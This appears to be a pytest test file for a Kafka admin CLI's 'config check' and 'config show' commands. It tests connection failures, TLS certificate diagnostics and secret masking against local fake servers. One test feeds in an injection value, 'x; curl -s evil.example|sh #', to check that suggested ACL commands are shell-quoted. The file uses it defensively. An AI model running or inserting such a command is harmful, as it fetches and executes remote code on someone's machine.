"""``kgroups config check`` on misconfigured ports, and ``config show``."""

from __future__ import annotations

import json
import re
import shlex
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from kgroups.admin.diagnose.check_connection import _grant
from kgroups.config.secret import Secret
from kgroups.config.security import Password, Sasl, Security
from kgroups.config.settings import ClientSettings
from kgroups.model.permissions import Acl
from tests.fakes.broker import FakeCluster, silence
from tests.fakes.certificates import Certificates

Run = Callable[..., tuple[int, str, str]]
DESCRIBE = 1 << 8
WAY = ["DNS", "TCP", "ApiVersions", "Metadata"]


def shop(fake: FakeCluster) -> None:
    fake.state.operations = DESCRIBE
    fake.state.topic("t", [0])
    fake.state.group("a", 0, commits={("t", 0): 5})


def check(run_cli: Run, bootstrap: str, *words: str) -> tuple[int, list[dict[str, Any]], str]:
    code, out, err = run_cli("config", "check", "-b", bootstrap, "-o", "json", *words)
    envelope = json.loads(out)
    assert envelope["schema"] == "kgroups/config-check/v1"
    return code, [row for row in envelope["items"] if row["result"] != "understood"], err


def results(rows: list[dict[str, Any]], where: str) -> list[tuple[str, str]]:
    return [(row["step"], row["result"]) for row in rows if row["where"] == where]


def failed(rows: list[dict[str, Any]]) -> dict[str, Any]:
    (row,) = (row for row in rows if row["result"] == "failed")
    return row


@contextmanager
def listening(serve: Callable[[socket.socket], None] | None = None) -> Iterator[int]:
    """A port that accepts connections, and calls ``serve`` with each; by default, it does nothing with them."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        kept = []

        def accept() -> None:
            while True:
                try:
                    kept.append(server.accept()[0])
                except OSError:
                    return
                if serve:
                    serve(kept[-1])

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        thread.join(5)
        for each in kept:
            each.close()


def test_config_check_healthy_cluster_passes_every_step(run_cli: Run, serve: Callable[..., Any]) -> None:
    served = serve(fill=shop)
    code, rows, err = check(run_cli, served.bootstrap)
    assert (code, err) == (0, "")
    for broker in served.fake.brokers.values():
        assert results(rows, f"127.0.0.1:{broker.port}") == [(step, "ok") for step in WAY]
    assert results(rows, "cluster") == [("rights", "ok"), ("groups", "ok"), ("describe", "ok")]


def test_config_check_tries_advertised_addresses(run_cli: Run, serve: Callable[..., Any]) -> None:
    served = serve(fill=shop)
    first, second = served.fake.brokers.values()
    code, rows, _ = check(run_cli, f"127.0.0.1:{first.port}")
    assert code == 0
    assert results(rows, f"broker 1 (127.0.0.1:{second.port})") == [(step, "ok") for step in WAY]


def test_config_check_unreachable_advertised_address_has_its_own_message(
    run_cli: Run, serve: Callable[..., Any]
) -> None:
    served = serve(fill=shop)
    first, second = served.fake.brokers.values()
    second.advertised = _free_port()
    code, rows, err = check(run_cli, f"127.0.0.1:{first.port}", "--broker-timeout", "3s")
    assert code == 1
    row = next(row for row in rows if row["result"] == "failed" and row["step"] == "TCP")
    assert f"127.0.0.1:{first.port} is reachable, but broker " in row["detail"]
    assert row["detail"].endswith(", which is not reachable from here")
    assert row["fix"].startswith("set advertised.listeners on broker 1")
    assert "advertised.listeners on broker 1" in err


def test_config_check_closed_port_fails_tcp(run_cli: Run) -> None:
    port = _free_port()
    code, rows, err = check(run_cli, f"127.0.0.1:{port}")
    assert code == 1
    assert results(rows, f"127.0.0.1:{port}") == [
        ("DNS", "ok"),
        ("TCP", "failed"),
        ("ApiVersions", "not tried"),
        ("Metadata", "not tried"),
    ]
    assert failed(rows)["detail"] == "connection refused"
    assert str(port) in failed(rows)["fix"] and str(port) in err
    assert results(rows, "cluster") == [("rights", "not tried")]


def test_config_check_unresolvable_host_fails_dns(run_cli: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    def unknown(*_: object, **__: object) -> None:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", unknown)
    code, rows, _ = check(run_cli, "no-such-broker.invalid:9092")
    assert code == 1
    assert (failed(rows)["step"], failed(rows)["detail"]) == ("DNS", "name or service not known")
    assert "'no-such-broker.invalid'" in failed(rows)["fix"]


def test_config_check_http_server_fails_api_versions(run_cli: Run) -> None:
    class Quiet(BaseHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Quiet) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        code, rows, _ = check(run_cli, f"127.0.0.1:{server.server_port}", "--broker-timeout", "3s")
        server.shutdown()
        thread.join()
    assert code == 1
    assert failed(rows)["step"] == "ApiVersions"
    assert failed(rows)["fix"]


def test_config_check_http_response_is_named(run_cli: Run) -> None:
    with listening(lambda peer: peer.sendall(b"HTTP/1.1 400 Bad Request\r\n\r\n")) as port:
        code, rows, _ = check(run_cli, f"127.0.0.1:{port}")
    assert code == 1
    assert (failed(rows)["step"], failed(rows)["detail"]) == (
        "ApiVersions",
        "the port speaks HTTP, not Kafka's protocol",
    )
    assert failed(rows)["fix"] == f"port {port} belongs to another service: use the port of a Kafka listener"


def test_config_check_hung_port_costs_one_timeout_and_others_are_tried(run_cli: Run, serve: Callable[..., Any]) -> None:
    served = serve(1, fill=shop)
    with listening() as port:
        code, rows, _ = check(run_cli, f"127.0.0.1:{port},{served.bootstrap}", "--broker-timeout", "1500ms")
    assert code == 1
    assert failed(rows)["step"] == "ApiVersions"
    assert "Kafka listener" in failed(rows)["fix"] and "if the listener uses TLS" in failed(rows)["fix"]
    assert results(rows, served.bootstrap) == [(step, "ok") for step in WAY]
    assert results(rows, "cluster")[0] == ("rights", "ok")


def test_config_check_missing_permission_is_a_warning_with_acl_command(run_cli: Run, serve: Callable[..., Any]) -> None:
    served = serve(fill=shop)
    served.state.operations = 0
    code, rows, _ = check(run_cli, served.bootstrap)
    assert code == 0
    (row,) = (row for row in rows if row["step"] == "rights")
    assert row["result"] == "warning"
    assert row["fix"].endswith("--operation Describe --cluster")


def test_config_check_broker_without_metadata_fails_that_step(run_cli: Run, serve: Callable[..., Any]) -> None:
    served = serve(1, fill=shop)
    served.fake.brokers[0].fault("Metadata", silence)
    code, rows, _ = check(run_cli, served.bootstrap, "--broker-timeout", "1500ms")
    assert code == 1
    assert failed(rows)["step"] == "Metadata"
    assert "security.protocol" in failed(rows)["fix"]


# A certificate that is not believed is shown all the same.


class TlsPort:
    """Takes connections with TLS, as long as it has ``patience`` for handshakes, and keeps what is said on them."""

    def __init__(self, context: ssl.SSLContext, patience: int = 1_000) -> None:
        self._context, self._patience = context, patience
        self._serving: list[threading.Thread] = []
        self.agreed = 0
        self.heard = b""

    def __call__(self, peer: socket.socket) -> None:
        thread = threading.Thread(target=self._serve, args=(peer,))
        self._serving.append(thread)
        thread.start()

    def _serve(self, peer: socket.socket) -> None:
        with suppress(OSError), peer:
            begun = peer.recv(1, socket.MSG_PEEK)
            self._patience -= bool(begun)
            if not begun or self._patience < 0:
                return
            with self._context.wrap_socket(peer, server_side=True) as secure:
                self.agreed += 1
                while output := secure.recv(1_000):
                    self.heard += output

    def wait(self) -> None:
        for thread in self._serving:
            thread.join(10)
            assert not thread.is_alive()


@pytest.fixture(scope="module")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
    return Certificates(tmp_path_factory.mktemp("tls") / "certificates")


SERVER = "CN=localhost for localhost, 127.0.0.1, signed by CN=kgroups sandbox"
AUTHORITY = r"CN=kgroups sandbox, signed by itself, until \d{4}-\d\d-\d\d \(\d+ days\)"
SECRET = "s3cret-of-ann"


def knocked(run_cli: Run, port: int, folder: Path, authority: Path) -> tuple[int, dict[str, Any], str]:
    """By SASL_SSL, with a password: the exit code, the row that failed, and stderr."""
    file = folder / "client.properties"
    file.write_text(
        f"security.protocol=SASL_SSL\nsasl.mechanism=PLAIN\nsasl.username=ann\nsasl.password={SECRET}\n"
        f"ssl.truststore.type=PEM\nssl.truststore.location={authority}\n"
    )
    file.chmod(0o600)
    code, rows, err = check(run_cli, f"127.0.0.1:{port}", "--command-config", str(file))
    row = failed(rows)
    assert row["step"] == "TLS" and SECRET not in err + json.dumps(rows)
    assert [each["result"] for each in rows[rows.index(row) + 1 :]] == ["not tried"] * 4
    return code, row, err


@pytest.mark.parametrize(
    ("shown", "trusted", "reason", "chain", "fix"),
    [
        (
            "expired",
            "authority",
            "its certificate has expired: it was valid until 2021-01-01 00:00:00 UTC",
            rf"{SERVER}, until 2021-01-01 \(expired \d+ days ago\); {AUTHORITY}",
            "renew the broker's certificate",
        ),
        (
            "self_signed",
            "authority",
            r"its certificate is self-signed \(CN=localhost\) and not trusted",
            r"CN=localhost for localhost, 127\.0\.0\.1, signed by itself, until \d{4}-\d\d-\d\d \(\d+ days\)",
            "if you trust it, add it to ssl.truststore.location",
        ),
        (
            "wrong_name",
            "authority",
            r"its certificate is for elsewhere\.example, not for 127\.0\.0\.1",
            rf"CN=elsewhere for elsewhere\.example, signed by CN=kgroups sandbox, until 2049-12-31 .*; {AUTHORITY}",
            "connect by a name that the certificate contains",
        ),
        (
            "server",
            "self_signed",
            r"its certificate is signed by an authority \(CN=kgroups sandbox\) that is not trusted",
            rf"{SERVER}, until 2049-12-31 \(\d+ days\); {AUTHORITY}",
            "if you trust it, add it to ssl.truststore.location",
        ),
    ],
)
def test_config_check_shows_the_untrusted_chain(
    run_cli: Run,
    certificates: Certificates,
    tmp_path: Path,
    shown: str,
    trusted: str,
    reason: str,
    chain: str,
    fix: str,
) -> None:
    """By one more handshake, on which nothing else goes over: no password above all."""
    made = certificates.made
    authority = made.authority if trusted == "authority" else made.self_signed.certificate
    peer = TlsPort(certificates.server(getattr(made, shown)))
    with listening(peer) as port:
        code, row, err = knocked(run_cli, port, tmp_path, authority)
        peer.wait()
    assert code == 1
    assert re.fullmatch(f"{reason}; certificate chain: {chain}", row["detail"])
    assert row["fix"].startswith(fix) and fix in err
    assert "certificate chain:" not in err
    assert (peer.agreed, peer.heard) == (1, b"")


def test_config_check_omits_chain_that_is_not_presented_again(
    run_cli: Run, certificates: Certificates, tmp_path: Path
) -> None:
    made = certificates.made
    peer = TlsPort(certificates.server(made.self_signed), patience=1)
    with listening(peer) as port:
        code, row, _ = knocked(run_cli, port, tmp_path, made.authority)
        peer.wait()
    assert code == 1
    assert row["detail"] == "its certificate is self-signed and not trusted"
    assert row["fix"].startswith("if you trust it, add it to ssl.truststore.location")
    assert (peer.agreed, peer.heard) == (0, b"")


def test_config_show_masks_secrets_and_names_the_origin(run_cli: Run, tmp_path: Any) -> None:
    file = tmp_path / "client.properties"
    file.write_text(
        "bootstrap.servers=b:1\nsecurity.protocol=SASL_PLAINTEXT\nsasl.mechanism=PLAIN\n"
        "sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required "
        'username="ann" password="s3cret";\n'
    )
    file.chmod(0o600)
    code, out, err = run_cli("config", "show", "--command-config", str(file), "-o", "json")
    rows = {row["key"]: row for row in json.loads(out)["items"]}
    assert code == 0
    assert "s3cret" not in out + err
    assert rows["sasl.jaas.config: username"]["value"] == "ann"
    assert rows["sasl.jaas.config: password"]["value"] == "****"
    assert rows["security.protocol"]["origin"].endswith("client.properties, line 2")


def test_config_check_invalid_configuration_exits_2(run_cli: Run) -> None:
    code, out, err = run_cli("config", "check", "-b", "b:1", "-X", "security.protocol=SLL")
    assert (code, out) == (2, "")
    assert "security.protocol" in err


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


def test_config_check_suggested_command_is_quoted() -> None:
    """A group's name is anybody's, and the command is for an administrator's shell."""
    evil = "x; curl -s evil.example|sh #"
    acl = Acl("DESCRIBE", "GROUP", evil)
    who = Sasl("PLAIN", Password("bob; id", Secret("x")))
    answer = _grant(ClientSettings((("h", 1),), security=Security(None, who)), [acl]).partition(": ")[2]
    words = shlex.split(answer)
    assert words[words.index("--group") + 1] == evil
    assert words[words.index("--allow-principal") + 1] == "User:bob; id"


def test_check_shows_the_fix_of_several_servers_once(run_cli: Run) -> None:
    with listening() as first, listening() as second:
        servers = f"127.0.0.1:{first},127.0.0.1:{second}"
        words = ("config", "check", "-b", servers, "--broker-timeout", "200ms", "-X", "security.protocol=SSL")
        _, out, _ = run_cli(*words, "--columns", "step,result,fix", "--no-headers")
        fixes = [line.split(None, 2)[2] for line in out.splitlines() if "failed" in line]
        assert len(fixes) == 2 and fixes[0] != "as above" and fixes[1] == "as above"
        rows = json.loads(run_cli(*words, "-o", "json")[1])["items"]
        first_fix, second_fix = [row["fix"] for row in rows if row["result"] == "failed"]
        assert first_fix == second_fix == fixes[0]
